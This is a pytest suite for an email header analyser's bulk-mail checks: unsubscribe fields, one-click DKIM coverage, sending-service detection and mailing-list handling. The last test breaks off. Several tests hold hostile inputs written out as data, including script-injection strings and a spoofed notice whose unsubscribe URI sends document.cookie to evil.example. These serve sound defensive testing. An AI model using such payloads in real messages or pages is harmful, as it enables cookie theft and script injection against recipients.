"""Bulk and list mail: List-Unsubscribe (RFC 2369), one-click unsubscription (RFC 8058) and its
DKIM coverage, Precedence, Feedback-ID and the sending service, told apart for a sender's bulk
mail, a discussion list's copy, a transactional message and person-to-person mail."""

from __future__ import annotations

import base64
import dataclasses
import json
from datetime import datetime, timezone
from unittest import mock

import dkim  # only to sign test messages, as test_dkim does
from conftest import SAMPLES
from cryptography.hazmat.primitives import serialization
from timing import assert_within

import headerscope
from headerscope.dns.snapshot import SnapshotResolver
from headerscope.model import Report
from headerscope.render import get_renderer

SHOP_KEY = (SAMPLES / "keys" / "shop.example.rsa2048.pem").read_bytes()

# The fields of RFC 8058 section 8.2's example: a mailto: and an https: URI, and the one-click
# key/value pair.
RFC8058_FIELDS = (
    "List-Unsubscribe: <mailto:listrequest@example.com?subject=unsubscribe>,\r\n"
    "    <https://example.com/unsubscribe.html?opaque=123456789>\r\n"
    "List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n"
)
RECEIVED = ("Received: from mail.shop.example (mail.shop.example [192.0.2.40]) by mx.receiver.example with ESMTPS "
            "id 4Q1; Mon, 2 Nov 2026 10:00:04 +0000\r\n")


def message(fields: str, sender: str = "news@shop.example", subject: str = "Autumn offers") -> str:
    return (f"From: Shop <{sender}>\r\nTo: carol@receiver.example\r\nSubject: {subject}\r\n"
            f"Date: Mon, 2 Nov 2026 10:00:00 +0000\r\nMessage-ID: <n1@shop.example>\r\n{fields}"
            "MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nHello.\r\n")


def analyze(text: str) -> Report:
    return headerscope.analyze(text.encode(), offline=True)


def bulk_ids(report: Report) -> dict[str, str]:
    return {f.id: f.severity.value for f in report.findings if f.id.startswith("bulk.")}


def shop_dns() -> SnapshotResolver:
    private = serialization.load_pem_private_key(SHOP_KEY, password=None)
    der = private.public_key().public_bytes(serialization.Encoding.DER,
                                            serialization.PublicFormat.SubjectPublicKeyInfo)
    record = "v=DKIM1; k=rsa; p=" + base64.b64encode(der).decode()
    return SnapshotResolver({"s2026._domainkey.shop.example": {"TXT": [[record[i:i + 255] for i in
                                                                         range(0, len(record), 255)]]}})


def signed(text: str, headers: list[str]) -> bytes:
    """The message with a DKIM-Signature of shop.example over ``headers``, made before its delivery."""
    raw = text.encode()
    # dkimpy reads the signing time (t=) from time.time(): pinned to just before the Received stamp.
    with mock.patch("dkim.time.time", return_value=datetime(2026, 11, 2, 10, 0, 1, tzinfo=timezone.utc).timestamp()):
        field: bytes = dkim.sign(raw, b"s2026", b"shop.example", SHOP_KEY, include_headers=[h.encode() for h in headers])
    return field + raw


def test_rfc8058_example_is_read_and_unsigned_one_click_is_said() -> None:
    report = analyze(RECEIVED + message(RFC8058_FIELDS))
    bulk = report.bulk
    assert bulk is not None
    assert bulk.kind == "bulk"
    assert bulk.list_unsubscribe == ("mailto:listrequest@example.com?subject=unsubscribe",
                                     "https://example.com/unsubscribe.html?opaque=123456789")
    assert bulk.list_unsubscribe_post == "List-Unsubscribe=One-Click"
    assert bulk.one_click and bulk.unsubscribe_signed_by == ()
    # RFC 8058 section 4: no DKIM signature covers the two fields, so receivers do not offer it.
    assert bulk_ids(report) == {"bulk.one_click_unsigned": "notice"}
    [finding] = [f for f in report.findings if f.id == "bulk.one_click_unsigned"]
    assert "no DKIM signature" in finding.explanation and "SHOULD NOT" in finding.explanation
    assert finding.reference == "https://www.rfc-editor.org/rfc/rfc8058#section-4"


def test_one_click_signed_by_a_verifying_signature_is_in_order() -> None:
    # A transactional message with one-click, signed over both fields: nothing to say.
    raw = signed(RECEIVED + message(RFC8058_FIELDS, subject="Your order 1234"),
                 ["From", "To", "Subject", "Date", "Message-ID", "List-Unsubscribe", "List-Unsubscribe-Post"])
    report = headerscope.analyze(raw, resolver=shop_dns())
    [signature] = report.dkim
    assert signature.result == "pass"
    assert report.bulk is not None and report.bulk.one_click
    assert report.bulk.unsubscribe_signed_by == ("shop.example/s2026",)
    assert bulk_ids(report) == {}
    # Someone changed the one-click URI after signing: the covering signature vouches for nothing.
    tampered = raw.replace(b"opaque=123456789", b"opaque=attacker")
    report = headerscope.analyze(tampered, resolver=shop_dns())
    assert report.dkim[0].result == "fail"
    assert bulk_ids(report) == {"bulk.one_click_unsigned": "notice"}
    [finding] = [f for f in report.findings if f.id == "bulk.one_click_unsigned"]
    assert "do not verify (shop.example/s2026 (fail))" in finding.explanation


def test_a_signature_that_leaves_out_list_unsubscribe_post_does_not_cover_one_click() -> None:
    # OpenDKIM's default SignHeaders signs List-Unsubscribe but not List-Unsubscribe-Post.
    raw = signed(RECEIVED + message(RFC8058_FIELDS), ["From", "To", "Subject", "Date", "List-Unsubscribe"])
    report = headerscope.analyze(raw, resolver=shop_dns())
    assert report.dkim[0].result == "pass"
    assert report.bulk is not None and report.bulk.unsubscribe_signed_by == ()
    [finding] = [f for f in report.findings if f.id == "bulk.one_click_unsigned"]
    assert finding.explanation.startswith("No DKIM signature's h= covers both List-Unsubscribe and "
                                          "List-Unsubscribe-Post.")


def test_mailman_list_message_is_not_scolded() -> None:
    report = headerscope.analyze((SAMPLES / "mailing-list.eml").read_bytes(), offline=True)
    bulk = report.bulk
    assert bulk is not None
    assert (bulk.kind, bulk.list_unsubscribe, bulk.one_click, bulk.precedence) == (
        "mailing_list", ("mailto:devel-leave@lists.example.org",), False, "list")
    assert bulk.list_id == "Development discussion <devel.lists.example.org>"
    # Said for the record, as an info: RFC 8058 and the providers' rule are for bulk senders.
    assert bulk_ids(report) == {"bulk.no_one_click": "info"}
    [finding] = [f for f in report.findings if f.id == "bulk.no_one_click"]
    assert "usual for a discussion list" in finding.explanation and "a mailto: address" in finding.explanation


def test_newsletter_without_one_click_is_a_notice_citing_the_requirement() -> None:
    report = analyze(RECEIVED + message(
        "List-Unsubscribe: <https://shop.example/unsub?u=42>, <mailto:unsub@shop.example>\r\n"
        "List-Id: Shop news <news.shop.example>\r\nX-SG-EID: abc123\r\n"))
    assert report.bulk is not None
    assert (report.bulk.kind, report.bulk.sending_service, report.bulk.sending_service_field) == (
        "bulk", "SendGrid", "X-SG-EID")
    assert bulk_ids(report) == {"bulk.no_one_click": "notice"}
    [finding] = [f for f in report.findings if f.id == "bulk.no_one_click"]
    assert "February 2024" in finding.explanation and "Gmail and Yahoo" in finding.explanation
    assert "a mailto: address and an https: page" in finding.explanation
    assert finding.reference == "https://support.google.com/mail/answer/81126"


def test_precedence_bulk_without_list_unsubscribe() -> None:
    report = analyze(RECEIVED + message("Precedence: bulk\r\n"))
    # Precedence alone is the sender's mark, not proof of bulk mail (RFC 3834 section 3.1.8).
    assert report.bulk is not None and report.bulk.kind == "precedence_only" and report.bulk.list_unsubscribe == ()
    assert bulk_ids(report) == {"bulk.no_unsubscribe": "notice"}
    # A tracker's notification marks itself bulk to keep auto-responders quiet (RFC 3834 section 2).
    report = analyze(RECEIVED + message("Auto-Submitted: auto-generated\r\nPrecedence: bulk\r\n",
                                        subject="[Redmine] Bug #12 updated"))
    assert bulk_ids(report) == {"bulk.no_unsubscribe": "info"}


def test_precedence_alone_does_not_make_a_report_or_an_auto_reply_bulk_mail() -> None:
    # SpamCop sends its complaints with "Precedence: list", as vacation programs and other
    # automatic senders do, to keep auto-responders quiet (RFC 3834 section 3.1.8).
    complaint = analyze(RECEIVED + message("Precedence: list\r\n", sender="1234@reports.spamcop.net",
                                           subject="[SpamCop (192.0.2.9) id:6301094139]Buy now"))
    assert complaint.bulk is not None and complaint.bulk.kind == "precedence_only"
    terminal = get_renderer("terminal").render(complaint)
    assert "a sender's bulk or subscribed mail" not in terminal
    assert "not known to be bulk mail" in terminal and "RFC 3834" in terminal
    assert "a sender's bulk or subscribed mail" not in get_renderer("markdown").render(complaint)
    assert bulk_ids(complaint) == {}
    # An ARF report marked "Precedence: bulk" is no bulk mail either, and is held to no bulk rule.
    arf = analyze(RECEIVED + message("Precedence: bulk\r\n", sender="fbl@isp.example", subject="Abuse report")
                  .replace("Content-Type: text/plain\r\n\r\nHello.\r\n",
                           'Content-Type: multipart/report; report-type=feedback-report; boundary="b"\r\n\r\n'
                           "--b\r\nContent-Type: text/plain\r\n\r\nA complaint.\r\n"
                           "--b\r\nContent-Type: message/feedback-report\r\n\r\nFeedback-Type: abuse\r\n"
                           "User-Agent: FBL/1.0\r\nVersion: 1\r\nSource-IP: 192.0.2.7\r\n--b--\r\n"))
    assert arf.feedback_report is not None
    assert arf.bulk is not None and arf.bulk.kind == "precedence_only" and bulk_ids(arf) == {}
    # With a list's or a sender's own mark, Precedence keeps its company.
    listed = analyze(RECEIVED + message("Precedence: list\r\nList-Unsubscribe: <mailto:u@shop.example>\r\n"))
    assert listed.bulk is not None and listed.bulk.kind == "bulk"


def test_an_announcement_list_is_a_senders_bulk_mail() -> None:
    # RFC 2369 section 3.4: "List-Post: NO" on a list that takes no posts.
    report = analyze(RECEIVED + message("List-Post: NO (posting not allowed on this list)\r\n"
                                        "List-Unsubscribe: <https://shop.example/unsub?u=42>\r\n"))
    assert report.bulk is not None and report.bulk.kind == "bulk"
    assert bulk_ids(report) == {"bulk.no_one_click": "notice"}


def test_one_click_without_an_https_uri_is_incomplete() -> None:
    report = analyze(RECEIVED + message("List-Unsubscribe: <mailto:unsub@shop.example>\r\n"
                                        "List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n"))
    assert report.bulk is not None and not report.bulk.one_click
    assert bulk_ids(report) == {"bulk.one_click_incomplete": "notice"}
    assert "holds no https: URI" in report.findings[[f.id for f in report.findings].index(
        "bulk.one_click_incomplete")].explanation


def test_sending_services_are_named_by_their_own_fields_only() -> None:
    cases = {
        "X-SES-Outgoing: 2026.11.02-54.240.8.1\r\n": ("Amazon SES", "X-SES-Outgoing"),
        "Feedback-ID: 1.eu-west-1.abc=:AmazonSES\r\n": ("Amazon SES", "Feedback-ID"),
        "X-Mailgun-Sid: WyI0ZDFm\r\n": ("Mailgun", "X-Mailgun-Sid"),
        # Postmark's message id is a UUID (a real 2026 copy through Postmark's KumoMTA hop).
        "X-PM-Message-Id: 9f6bb2ec-afe3-4a1c-ade2-addf73f8681d\r\n": ("Postmark", "X-PM-Message-Id"),
        "X-MJ-Mid: AXQAAACMQ5YAAcjIYbYAAM5EefsAAYCrYzIAnGIiABIoIQBjRcH_zcswE0OHRPOAehNasFSpJwASLds\r\n":
            ("Mailjet", "X-MJ-Mid"),
        "Feedback-Id: 42.1189921.1191387:MJ\r\n": ("Mailjet", "Feedback-ID"),
        "Feedback-ID: 77.32.148.109:9885165_19:9885165:Sendinblue\r\n": ("Brevo (Sendinblue)", "Feedback-ID"),
        "X-Zendesk-From-Account-Id: 68b8aed\r\n": ("Zendesk", "X-Zendesk-From-Account-Id"),
        "X-HS-Cid: 1axe7t3rcjxusl6j2ajxiy9nriv74kj7tc6hc6\r\n": ("HubSpot", "X-HS-Cid"),
        # Salesforce's own mail (verification V30c, a real 2022 copy): its organisation and user ids.
        "X-SFDC-LK: 00D8d000003TRx3\r\nX-SFDC-User: 0058d000002CGqS\r\n": ("Salesforce", "X-SFDC-LK"),
        "X-SFDC-User: 0050f000008V82Z\r\n": ("Salesforce", "X-SFDC-User"),
        # A Salesforce message resent through Mailgun keeps Salesforce's fields (a real 2024 copy, the
        # corpus' eml_analyzer/invalid_datetime.eml): the service that sent it on is named.
        "X-Mailgun-Sid: WyJiYjE3ZCIsImFk\r\nX-SFDC-LK: 00DG0000000i0kS\r\nX-SFDC-User: 00516000006g50o\r\n":
            ("Mailgun", "X-Mailgun-Sid"),
        # Marketo's servers run Momentum and write its fields too: Marketo's own field names it.
        "X-MSFBL: aHpoaWxhbXBAMTYzLmNvbQ==\r\nX-MarketoID: 107-FMS-070:3975:7933:25359:0:5375:9:16516:10954819\r\n":
            ("Marketo", "X-MarketoID"),
        'X-MSYS-API: {"options":{"open_tracking":false}}\r\n': ("SparkPost/Momentum", "X-MSYS-API"),
        "Feedback-ID: 123:456:campaign:shop\r\n": (None, None),
    }
    for fields, (service, field) in cases.items():
        report = analyze(RECEIVED + message(fields, subject="Your password reset"))
        assert report.bulk is not None, fields
        assert (report.bulk.kind, report.bulk.sending_service, report.bulk.sending_service_field) == (
            "service", service, field), fields
        # A receipt or a password reset needs no unsubscription: said as an info only.
        assert bulk_ids(report) == {"bulk.no_unsubscribe": "info"}, fields


def test_the_sending_services_server_names_it_as_evidence_when_the_receiver_recorded_it() -> None:
    # No bulk field at all: the receiver's record of the sending server (its reverse DNS name at the
    # trust boundary) names Amazon SES, and the report says so in every format.
    report = analyze(
        "Received: from a35-129.smtp-out.amazonses.com (a35-129.smtp-out.amazonses.com [54.240.35.129]) by "
        "mx.receiver.example with ESMTPS id 4Q1; Mon, 2 Nov 2026 10:00:04 +0000\r\n"
        + message("", subject="Your password reset"))
    bulk = report.bulk
    assert bulk is not None and (bulk.kind, bulk.sending_service, bulk.sending_service_field) == (
        "service", "Amazon SES", None)
    assert (bulk.sending_service_host, bulk.sending_service_hop, bulk.sending_service_host_recorded,
            bulk.sending_service_for) == ("a35-129.smtp-out.amazonses.com", 1, True, "shop.example")
    said = ("Amazon SES for shop.example: the receiving side recorded the sending server as "
            "a35-129.smtp-out.amazonses.com (hop 1, its reverse DNS name: evidence)")
    assert f"| Sending service | {said} |" in get_renderer("markdown").render(report)
    assert said in " ".join(get_renderer("terminal").render(report).replace("│", " ").split())
    assert said in get_renderer("html").render(report)
    assert report.to_dict()["bulk"]["sending_service_host_recorded"] is True
    assert bulk_ids(report) == {"bulk.no_unsubscribe": "info"}


def test_a_services_host_the_sending_side_wrote_is_a_claim() -> None:
    # Mailchimp's own stamp below the boundary, and a receiver that recorded only the HELO name:
    # both written by the sending side.
    report = analyze(
        "Received: from mail252.suw101.mcdlv.net ([198.2.184.252]) by mx.receiver.example with ESMTP id 4Q2; "
        "Mon, 2 Nov 2026 10:00:04 +0000\r\n"
        "Received: from localhost (localhost [127.0.0.1]) by mail252.suw101.mcdlv.net (Mailchimp) with ESMTP id "
        "4Kgk; Mon, 2 Nov 2026 10:00:02 +0000\r\n" + message("", sender="john@shop.example", subject="URGENT"))
    bulk = report.bulk
    assert bulk is not None and bulk.sending_service == "Mailchimp" and not bulk.sending_service_host_recorded
    assert bulk.sending_service_host == "mail252.suw101.mcdlv.net"
    assert "(written by the sending side, a claim)" in get_renderer("markdown").render(report)


def test_salesforces_mta_host_names_it_but_other_salesforce_com_hosts_do_not() -> None:
    # Verification V30c (sfdc-direct.eml, a real 2022 copy): Salesforce sends through
    # *.mta.salesforce.com; salesforce.com names the company's other hosts too, so only those count.
    def received(host: str) -> str:
        return (f"Received: from {host} ({host}. [161.71.6.232]) by mx.receiver.example with ESMTPS id 4Q1; "
                "Mon, 2 Nov 2026 10:00:04 +0000\r\n")

    report = analyze(received("smtp09-lo2-sp1.mta.salesforce.com") + message("", subject="Your case"))
    bulk = report.bulk
    assert bulk is not None and (bulk.kind, bulk.sending_service, bulk.sending_service_host,
                                 bulk.sending_service_host_recorded) == (
        "service", "Salesforce", "smtp09-lo2-sp1.mta.salesforce.com", True)
    for host in ("mail.salesforce.com", "mta.salesforce.com.example", "xmta.salesforce.com"):
        assert analyze(received(host) + message("", subject="Your case")).bulk is None, host


MAILMAN2_BLOCK = (
    "X-BeenThere: devel@lists.example.org\r\nX-Mailman-Version: 2.1.29\r\n"
    "List-Id: Development <devel.lists.example.org>\r\n"
    "List-Unsubscribe: <https://lists.example.org/mailman/options/devel>,\r\n"
    " <mailto:devel-request@lists.example.org?subject=unsubscribe>\r\n"
    "List-Archive: <https://lists.example.org/archives/devel/>\r\nList-Post: <mailto:devel@lists.example.org>\r\n"
    "List-Help: <mailto:devel-request@lists.example.org?subject=help>\r\n"
    "Sender: \"devel\" <devel-bounces@lists.example.org>\r\n")


def test_one_click_is_not_usable_when_the_list_replaced_list_unsubscribe_but_not_the_post_field() -> None:
    # A newsletter posted to a Mailman 2 list: the sender's List-Unsubscribe-Post stays among its
    # fields, and Mailman appends its own block, List-Unsubscribe (its options page) included.
    sender_fields = ("List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nFeedback-Id: 42.1189921.1191387:MJ\r\n"
                     "Precedence: bulk\r\nX-MJ-Mid: AXQAAACMQ5YAAcjIYbYAAM5E\r\n")
    report = analyze(RECEIVED + message(sender_fields + MAILMAN2_BLOCK, sender="jesse@cypress.example"))
    bulk = report.bulk
    assert bulk is not None and bulk.kind == "mailing_list"
    assert bulk.one_click_split and not bulk.one_click
    assert "bulk.one_click_not_usable" in bulk_ids(report)
    assert "| One-click (RFC 8058) | not usable: List-Unsubscribe-Post stands among the original sender's fields" \
        in get_renderer("markdown").render(report)
    # Mailman 3 puts its block at the top: the same split, the other way up.
    report = analyze(RECEIVED + MAILMAN2_BLOCK.replace("X-Mailman-Version: 2.1.29", "X-Mailman-Version: 3.3.8")
                     + message(sender_fields, sender="jesse@cypress.example"))
    assert report.bulk is not None and report.bulk.one_click_split and not report.bulk.one_click


def test_a_list_that_writes_both_unsubscribe_fields_in_its_block_offers_one_click() -> None:
    block = MAILMAN2_BLOCK.replace("List-Archive:", "List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nList-Archive:")
    report = analyze(RECEIVED + message(block, sender="alice@cypress.example"))
    assert report.bulk is not None and report.bulk.kind == "mailing_list"
    assert report.bulk.one_click and not report.bulk.one_click_split
    assert "bulk.one_click_not_usable" not in bulk_ids(report)


def test_person_to_person_mail_has_no_bulk_section() -> None:
    report = headerscope.analyze((SAMPLES / "direct.eml").read_bytes(), dns_snapshot=str(SAMPLES / "direct.dns.json"))
    assert report.bulk is None and bulk_ids(report) == {}
    assert report.to_dict()["bulk"] is None
    assert "Bulk mail" not in get_renderer("terminal").render(report)
    assert "Bulk mail" not in get_renderer("markdown").render(report)
    assert 'id="bulk"' not in get_renderer("html").render(report)
    # "Precedence: first-class" is no bulk signal either.
    assert analyze(RECEIVED + message("Precedence: first-class\r\n", sender="alice@shop.example")).bulk is None


def test_an_auto_reply_with_precedence_junk_is_not_held_to_bulk_rules() -> None:
    report = analyze(RECEIVED + message("Auto-Submitted: auto-replied\r\nPrecedence: junk\r\n",
                                        subject="Out of office"))
    assert report.bulk is not None and report.bulk.auto_submitted == "auto-replied"
    assert bulk_ids(report) == {}


def test_hostile_fields_are_bounded_and_escaped_in_every_renderer() -> None:
    many = ", ".join(f"<https://x.example/{i}>" for i in range(5000))
    report = analyze(RECEIVED + message(
        f"List-Unsubscribe: {many}\r\nList-Id: <script>alert(1)</script> [x](javascript:y) \x1b[2J\r\n"
        f"Feedback-ID: {'a' * 100_000}\r\n"))
    bulk = report.bulk
    assert bulk is not None
    assert len(bulk.list_unsubscribe) == 8 and len(bulk.feedback_id or "") == 300
    html = get_renderer("html").render(report)
    section = html[html.index('id="bulk"'):html.index("</section>", html.index('id="bulk"'))]
    assert "<script>" not in section and "&lt;script&gt;" in section
    assert "href" not in section  # unsubscribe URIs are text, never links
    markdown = get_renderer("markdown").render(report)
    assert "### Bulk mail" in markdown and "[x](javascript" not in markdown and "\\<script\\>" in markdown
    terminal = get_renderer("terminal").render(report)
    assert "Bulk mail" in terminal and "\x1b" not in terminal


def test_the_bulk_section_is_shown_in_each_format() -> None:
    report = analyze(RECEIVED + message(RFC8058_FIELDS + "X-SES-Outgoing: 2026.11.02-54.240.8.1\r\n"))
    terminal = get_renderer("terminal").render(report)
    said = "Amazon SES for shop.example: the message carries Amazon SES's field X-SES-Outgoing (text the sender"
    assert "Bulk mail" in terminal and said in " ".join(terminal.replace("│", " ").split())
    assert "offered, but no DKIM signature covers both fields" in terminal
    assert f"| Sending service | {said} writes, a claim) |" in get_renderer("markdown").render(report)
    assert said in get_renderer("html").render(report).replace("&#39;", "'")
    assert report.to_dict()["bulk"]["list_unsubscribe_post"] == "List-Unsubscribe=One-Click"


def test_list_copies_by_majordomo_vger_and_a_bare_list_id_are_list_mail_and_old_mail_is_dated() -> None:
    # Real messages (2013-2023): a personal reply on majordomo's linux-mm was "a sender's bulk mail"
    # breaking the 2024 rules; vger's X-Mailing-List and a List-Id alone were not read as lists;
    # Mailchimp's X-Feedback-ID was dropped; a 2017 newsletter was judged by 2024's rules unsaid.
    majordomo = analyze(RECEIVED + message("Sender: owner-linux-mm@kvack.example\r\nPrecedence: bulk\r\n"
                                           "List-Unsubscribe: <mailto:majordomo@kvack.example>\r\n"))
    assert majordomo.bulk is not None and majordomo.bulk.kind == "mailing_list"
    assert bulk_ids(majordomo) == {"bulk.no_one_click": "info"}
    vger = analyze(RECEIVED + message("X-Mailing-List: linux-kernel@vger.example\r\nPrecedence: bulk\r\n"
                                      "List-Unsubscribe: <mailto:majordomo@vger.example>\r\n"))
    assert vger.bulk is not None and vger.bulk.kind == "mailing_list"
    bare = analyze(RECEIVED + message("List-ID: <linux-media.vger.example>\r\n"))
    assert bare.bulk is not None and bare.bulk.kind == "mailing_list"
    old = analyze(RECEIVED + message("X-Feedback-ID: 46716125:46716125.599473:us11:mc\r\n"
                                     "List-Unsubscribe: <https://shop.example/unsub?u=42>\r\n")
                  .replace("Mon, 2 Nov 2026 10:00:00 +0000", "Sat, 18 Mar 2017 10:00:00 +0000"))
    assert old.bulk is not None and old.bulk.feedback_id == "46716125:46716125.599473:us11:mc"
    [finding] = [f for f in old.findings if f.id == "bulk.no_one_click"]
    assert finding.explanation.endswith("This message (Date: 2017-03-18) predates those requirements.")


def test_a_one_click_the_list_replaced_is_not_shown_as_signed() -> None:
    # A Campaigner newsletter relayed by SourceForge's Mailman (real, 2023): "offered; both fields
    # signed by sbaloanadvice.com/em" (twice), though Mailman had put its own options page in
    # List-Unsubscribe, which the sender's signature never covered.
    signature = ("DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; s=em; d=sender.example;\r\n"
                 " h=List-Unsubscribe-Post:List-Unsubscribe:From:To; bh=AAAA; b=BBBB\r\n")
    fields = ("List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nList-Id: <dev.lists.forge.example>\r\n"
              "List-Unsubscribe: <https://lists.forge.example/lists/options/dev>,\r\n"
              " <mailto:dev-request@lists.forge.example?subject=unsubscribe>\r\nX-Mailman-Version: 2.1.21\r\n")
    report = analyze(RECEIVED + signature + signature + message(fields, sender="news@sender.example"))
    assert report.bulk is not None and report.bulk.unsubscribe_signed_by == ()
    [unsigned] = [f for f in report.findings if f.id == "bulk.one_click_unsigned"]
    assert unsigned.severity.value == "info"
    assert unsigned.explanation.startswith("The mailing list replaced List-Unsubscribe with its own")
    # The sender's own URI under the same signature stays signed, named once.
    own = fields.replace("lists.forge.example/lists/options", "sender.example/unsub").replace(
        "dev-request@lists.forge.example", "unsub@sender.example")
    report = analyze(RECEIVED + signature + signature + message(own, sender="news@sender.example"))
    assert report.bulk is not None and report.bulk.unsubscribe_signed_by == ("sender.example/em",)


def test_list_unsubscribe_uris_end_at_the_bracket_before_a_comma_and_other_schemes_are_warned_of() -> None:
    # RFC 2369 section 2: "<" URI ">" items separated by commas, comments allowed; a data: URI
    # may hold "<" and ">", so a URI ends at the ">" followed by a comma, a comment or the end.
    report = analyze(message(
        "List-Unsubscribe: <javascript:alert(6)>, <data:text/html,<script>alert(7)</script>> (old),\r\n"
        "    <mailto:leave@shop.example?subject=<unsubscribe>>, leave@shop.example, <https://shop.example/u?a=1>\r\n"
        "Precedence: bulk\r\n"))
    bulk = report.bulk
    assert bulk is not None
    assert bulk.list_unsubscribe == ("javascript:alert(6)", "data:text/html,<script>alert(7)</script>",
                                     "mailto:leave@shop.example?subject=<unsubscribe>", "https://shop.example/u?a=1")
    assert bulk.list_unsubscribe_unparsed == ("leave@shop.example",)
    unsafe = [f for f in report.findings if f.id == "bulk.unsafe_unsubscribe_uri"]
    assert len(unsafe) == 1 and unsafe[0].severity.value == "warning"
    assert "(javascript:, data:)" in unsafe[0].title and "<data:text/html,<script>alert(7)</script>>" in unsafe[0].explanation
    terminal = get_renderer("terminal", color=False, width=400).render(report)
    assert 'not a URI in angle brackets: "leave@shop.example"' in terminal
    # mailto:, http: and https: in any case are what RFC 2369 and RFC 8058 name: no warning; a
    # "<" never closed is shown as the text it is.
    plain = analyze(message("List-Unsubscribe: <MAILTO:leave@shop.example>, <HTTP://shop.example/u>, <https://shop.ex\r\n"
                            "Precedence: bulk\r\n"))
    assert plain.bulk is not None and plain.bulk.list_unsubscribe == ("MAILTO:leave@shop.example", "HTTP://shop.example/u")
    assert plain.bulk.list_unsubscribe_unparsed == ("<https://shop.ex",)
    assert not [f for f in plain.findings if f.id == "bulk.unsafe_unsubscribe_uri"]


def test_list_unsubscribe_of_many_brackets_is_read_in_linear_time() -> None:
    import time

    from headerscope.bulk import _unsubscribe_uris

    start = time.perf_counter()
    for value in ("<" + "> " * 50_000, "<a" + ">" * 100_000, "<x>" * 50_000, "(" * 100_000, "a," * 100_000):
        uris, remnants = _unsubscribe_uris(value)
        assert len(uris) <= 8 and len(remnants) <= 8 and all(len(r) <= 200 for r in remnants)
    assert_within(start, 1)


# A plain-text delay notice dressed as Exchange's, with a List-Unsubscribe that runs script.
_DRESSED_NOTICE = (
    "Return-Path: {return_path}\r\nFrom: Microsoft Outlook <postmaster@evil.example>\r\nTo: cfo@corp.example\r\n"
    "Subject: Delivery delayed: Invoice 4471\r\nDate: Sun, 29 Nov 2026 10:00:00 +0000\r\nMessage-ID: <c6@evil.example>\r\n"
    "Precedence: bulk\r\nList-Unsubscribe: <javascript:fetch('https://evil.example/x?c='+document.cookie)>\r\n"
    "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n"
    "Delivery to the following recipient has been delayed:\r\n\r\n     ap@supplier.example\r\n\r\n"
    "Open https://evil.example/outlook-release to release the message.\r\n")


def test_a_notice_read_from_text_hides_no_bulk_warning_unless_sent_with_the_null_sender() -> None:
    # Sent from a mailbox, not the null sender: its look is no notification, and the bulk rules apply.
    spoof = analyze(_DRESSED_NOTICE.format(return_path="<bounce@evil.example>"))
    assert "dsn.delayed" in {f.id for f in spoof.findings}
    assert bulk_ids(spoof) == {"bulk.unsafe_unsubscribe_uri": "warning", "bulk.no_one_click": "notice"}
    # With the null sender it is a notification, not judged by the bulk senders' rules; a URI that
    # runs script is still said.
    null = analyze(_DRESSED_NOTICE.format(return_path="<>"))
    assert "dsn.delayed" in {f.id for f in null.findings}
    assert bulk_ids(null) == {"bulk.unsafe_unsubscribe_uri": "warning"}


def test_proton_mails_own_fields_name_no_sending_service() -> None:
    # Verification V38f: every Proton Mail message carries "X-Pm-Message-ID: <40 hex digits>" and
    # "Feedback-ID: <n>:user:proton" (real copies, 2025): one person's mail to another was named
    # "Postmark" (whose field has the same case-insensitive name, with a UUID) and filed as bulk.
    proton = "Feedback-ID: 117888567:user:proton\r\nX-Pm-Message-ID: 05a15cb56fb37a86cf43e784834e6e7bf4c7b2a0\r\n"
    report = analyze(RECEIVED + message(proton))
    assert report.bulk is None
    assert not bulk_ids(report)
    # Either field alone is no service's either.
    for field in proton.split("\r\n")[:2]:
        assert analyze(RECEIVED + message(field + "\r\n")).bulk is None, field


def test_a_senders_post_field_below_a_vger_style_block_with_a_mailto_unsubscribe_is_the_lists_mix() -> None:
    # Verification V38f: a Brevo-sent patch through vger (real 2024 copy): vger writes X-Mailing-List,
    # List-Id, List-Subscribe and a mailto List-Unsubscribe together; Brevo's signed Post field stays
    # far below. It read "One-click unsubscription is offered incompletely", the sender's duty, when
    # the mix is the list's.
    vger = ("Precedence: bulk\r\nX-Mailing-List: git@vger.kernel.org\r\nList-Id: <git.vger.kernel.org>\r\n"
            "List-Subscribe: <mailto:git+subscribe@vger.kernel.org>\r\n"
            "List-Unsubscribe: <mailto:git+unsubscribe@vger.kernel.org>\r\n"
            "MIME-Version: 1.0\r\nX-sib-id: ayHVF3aEzEGLaf3TGUiOU6AxYlFs6hQm\r\nX-CSA-Complaints: csa-complaints@eco.de\r\n"
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n")
    report = analyze(RECEIVED + message(vger, sender="britton@kerin.example"))
    assert report.bulk is not None and report.bulk.kind == "mailing_list" and report.bulk.one_click_split
    assert bulk_ids(report) == {"bulk.one_click_not_usable": "info"}
    # The list's own Post field right beside its block is the list's: no split.
    own = vger.replace("MIME-Version: 1.0\r\nX-sib-id: ayHVF3aEzEGLaf3TGUiOU6AxYlFs6hQm\r\n"
                       "X-CSA-Complaints: csa-complaints@eco.de\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n",
                       "List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nMIME-Version: 1.0\r\n")
    report = analyze(RECEIVED + message(own, sender="britton@kerin.example"))
    assert report.bulk is not None and not report.bulk.one_click_split


def _mailing_list_sample_with(list_id: str) -> Report:
    """samples/mailing-list.eml with its List-Id replaced, analysed with its DNS snapshot."""
    raw = (SAMPLES / "mailing-list.eml").read_bytes()
    written = b"List-Id: Development discussion <devel.lists.example.org>"
    assert raw.count(written) == 1
    resolver = SnapshotResolver.from_file(SAMPLES / "mailing-list.dns.json")
    return headerscope.analyze(raw.replace(written, list_id.encode()), resolver=resolver,
                               now=datetime(2026, 11, 30, 12, tzinfo=timezone.utc))


def test_a_list_id_whose_description_is_an_encoded_word_is_shown_decoded_in_every_format() -> None:
    # Mailman's CookHeaders writes the list's description as an RFC 2047 encoded-word (uheader,
    # then formataddr); RFC 2047 section 5(3) allows one in the phrase. Verification V40e: the
    # Bulk section of every format showed it encoded, while the raw headers showed it decoded.
    plain = _mailing_list_sample_with("List-Id: Development discussion <devel.lists.example.org>")
    report = _mailing_list_sample_with("List-Id: =?utf-8?q?Liste_f=C3=BCr_Entwickler?= <devel.lists.example.org>")
    shown = "Liste für Entwickler <devel.lists.example.org>"
